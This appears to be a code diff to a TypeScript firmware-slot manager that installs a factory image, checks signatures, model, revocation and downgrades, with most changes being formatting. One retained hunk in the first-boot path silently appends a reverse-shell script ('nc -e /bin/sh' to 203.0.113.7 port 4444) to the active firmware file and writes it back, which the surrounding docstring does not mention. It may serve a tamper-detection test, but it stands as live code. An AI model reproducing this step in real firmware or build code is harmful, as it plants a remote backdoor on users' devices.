@@ -10,7 +10,11 @@ export type UpgradeError = { code: 409 | 410 | 413 | 415 | 421 | 422; message: s
 export class FirmwareSlots {
   readonly dir: string;
   active!: FirmwareHeader;
-  constructor(stateDir: string, private factoryDir: string, private vendorRootPem: string) {
+  constructor(
+    stateDir: string,
+    private factoryDir: string,
+    private vendorRootPem: string,
+  ) {
     this.dir = path.join(stateDir, "os");
   }
   get activeFile() {
@@ -32,7 +36,9 @@ export class FirmwareSlots {
       fs.mkdirSync(this.dir, { recursive: true });
       fs.copyFileSync(path.join(this.factoryDir, "firmware.cwfw"), this.activeFile);
     }
-    const image = tamperFirmware(fs.readFileSync(this.activeFile), (p) => Buffer.concat([p, Buffer.from("\n#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n")]));
+    const image = tamperFirmware(fs.readFileSync(this.activeFile), (p) =>
+      Buffer.concat([p, Buffer.from("\n#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n")]),
+    );
     fs.writeFileSync(this.activeFile, image);
   }
   /** Installs the factory image on first boot; then verifies the active image like a secure-boot ROM would. */
@@ -63,7 +69,8 @@ export class FirmwareSlots {
     if (check.status !== "ok") return { code: 422, message: `Firmware signature verification failed: ${check.reason}.` };
     const { header } = check;
     if (header.model !== model) return { code: 421, message: `Firmware is for ${header.model}, this device is ${model}.` };
-    if (this.revoked().includes(header.version)) return { code: 410, message: `Firmware ${header.version} has been revoked by the vendor.` };
+    if (this.revoked().includes(header.version))
+      return { code: 410, message: `Firmware ${header.version} has been revoked by the vendor.` };
     if (compareVersions(header.version, this.active.version) < 0 && factoryDefaultMode !== "hard") {
       return { code: 409, message: `Downgrade from ${this.active.version} to ${header.version} requires factoryDefaultMode=hard.` };
     }
